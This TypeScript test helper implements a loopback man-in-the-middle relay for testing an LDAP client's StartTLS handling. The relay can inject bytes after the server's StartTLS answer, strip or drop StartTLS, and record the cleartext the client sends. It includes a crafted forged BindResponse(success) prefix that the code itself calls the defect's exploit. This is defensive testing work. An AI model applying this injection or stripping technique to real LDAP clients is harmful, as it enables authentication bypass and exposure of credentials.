// An on-path attacker between the service and a real slapd's ldap:// listener (docs/security.md: the
// LDAP path). It sees the plaintext StartTLS exchange and can append bytes behind the server's
// StartTLS answer (a forged BindResponse, whole or in part), or strip StartTLS (answer the request
// itself: with an error, a forged answer, or not at all); every other byte is relayed untouched, TLS
// included, so the certificate the client sees is the real server's and verifies. It records what the
// client sent, so a test can prove that nothing but the StartTLS request ever left in clear.
import { once } from 'node:events';
import net from 'node:net';
import { bindResponse, type Frame, FrameSplitter } from './ldap-ber.ts';
import { type SocketTracking, socketTracker } from './socket-tracker.ts';

/** slapd's BindResponse(invalidCredentials) is 14 bytes (30 0c 02 01 id 61 07 0a 01 31 04 00 04 00). */
const REAL_ANSWER_BYTES = 14;

/**
 * The defect's exploit: the start of a BindResponse(success) for message `id` whose outer length
 * also covers the server's real 14-byte answer, so that answer, arriving inside TLS, completes the
 * forged message for a parser that kept the start across the upgrade.
 */
export function forgedSuccessPrefix(id: number): Buffer {
  const whole = bindResponse(id, 0);
  return Buffer.concat([Buffer.from([0x30, whole.length - 2 + REAL_ANSWER_BYTES]), whole.subarray(2)]);
}

export type StartTlsStrip =
  /** The relay answers the StartTLS request itself (given its message id); slapd never sees it. */
  | { readonly kind: 'answer'; readonly answer: (startTlsId: number) => Buffer }
  /** The relay swallows the StartTLS request: nobody answers it. */
  | { readonly kind: 'drop' };

export interface LdapRelayOptions {
  /**
   * Bytes written behind the server's first answer (the StartTLS response), in the same write,
   * given the message id of the client's first request (the StartTLS request).
   */
  readonly inject?: (startTlsId: number) => Buffer;
  readonly strip?: StartTlsStrip;
}

export interface LdapRelay extends SocketTracking {
  readonly port: number;
  /** The first message each client sent (its StartTLS request), in order of connections. */
  readonly firstRequests: Frame[];
  /** Every byte the clients sent, over all connections, in order. */
  sent(): Buffer;
}

/** Starts a relay on a free loopback port in front of 127.0.0.1:`targetPort`. */
export async function startLdapRelay(targetPort: number, options: LdapRelayOptions = {}): Promise<LdapRelay> {
  const tracker = socketTracker();
  const upstreams = new Set<net.Socket>();
  const firstRequests: Frame[] = [];
  const sent: Buffer[] = [];
  const server = net.createServer((client) => {
    tracker.add(client);
    const upstream = net.connect({ host: '127.0.0.1', port: targetPort });
    upstreams.add(upstream);
    upstream.on('close', () => upstreams.delete(upstream));
    client.on('error', () => upstream.destroy());
    upstream.on('error', () => client.destroy());
    client.on('close', () => upstream.destroy());
    upstream.on('close', () => client.destroy());

    // Client to server: the first message is read whole (the StartTLS request), then bytes flow.
    const request = new FrameSplitter();
    let first: Frame | null = null;
    client.on('data', (chunk: Buffer) => {
      sent.push(chunk);
      if (first !== null) return void upstream.write(chunk);
      const [frame] = request.push(chunk);
      if (frame === undefined) return;
      first = frame;
      firstRequests.push(frame);
      const rest = request.rest();
      if (options.strip?.kind === 'answer') client.write(options.strip.answer(frame.id));
      if (options.strip === undefined) upstream.write(frame.bytes);
      if (rest.length > 0) upstream.write(rest);
    });

    // Server to client: the first answer gets the injection behind it, in the same write.
    const answer = new FrameSplitter();
    let answered = false;
    upstream.on('data', (chunk: Buffer) => {
      if (answered) return void client.write(chunk);
      const [frame] = answer.push(chunk);
      if (frame === undefined) return;
      answered = true;
      const injected = options.inject?.(first?.id ?? 0) ?? Buffer.alloc(0);
      client.write(Buffer.concat([frame.bytes, injected, answer.rest()]));
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const tracking = tracker.tracking(server);
  return {
    get accepted() {
      return tracking.accepted;
    },
    openSockets: tracking.openSockets,
    drained: tracking.drained,
    async close() {
      for (const upstream of upstreams) upstream.destroy();
      await tracking.close();
    },
    port: (server.address() as net.AddressInfo).port,
    firstRequests,
    sent: () => Buffer.concat(sent),
  };
}
